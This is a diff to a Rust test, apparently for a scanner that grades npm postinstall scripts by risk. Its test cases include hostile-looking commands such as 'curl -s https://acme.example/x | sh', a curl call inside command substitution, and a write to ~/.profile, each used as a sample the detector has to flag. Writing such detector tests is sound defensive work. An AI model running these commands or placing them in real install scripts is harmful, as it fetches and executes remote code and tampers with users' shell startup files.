@@ -87,6 +87,9 @@ fn scripts_of_installation_are_weighed() {
         |script: &str| format!(r#"{{"name": "x", "scripts": {{"postinstall": "{script}"}}}}"#);
     for (script, level) in [
         ("husky install", None),
+        ("echo ' Run: npx x setup, see https://acme.example ' && true", None),
+        ("echo x > ~/.profile", Some(Level::Warn)),
+        ("echo $(curl -s https://acme.example)", Some(Level::High)),
         ("node scripts/setup.js", Some(Level::Warn)),
         ("curl -s https://acme.example/x | sh", Some(Level::High)),
         ("node -e 'x'", Some(Level::High)),
